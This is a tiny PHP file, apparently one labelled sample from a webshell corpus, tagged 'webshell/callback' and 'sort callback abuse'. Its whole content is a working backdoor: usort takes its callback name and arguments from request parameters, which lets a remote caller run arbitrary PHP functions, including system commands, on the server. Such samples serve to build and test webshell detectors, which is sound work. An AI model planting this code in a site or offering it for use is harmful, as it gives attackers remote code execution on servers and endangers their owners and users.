<?php
// Family: webshell/callback
// Style: sort callback abuse
// Trait: usort with a callback name from the request, the argument array from the request
$arr = array($_REQUEST['p'], 1);
usort($arr, $_REQUEST['cb']);
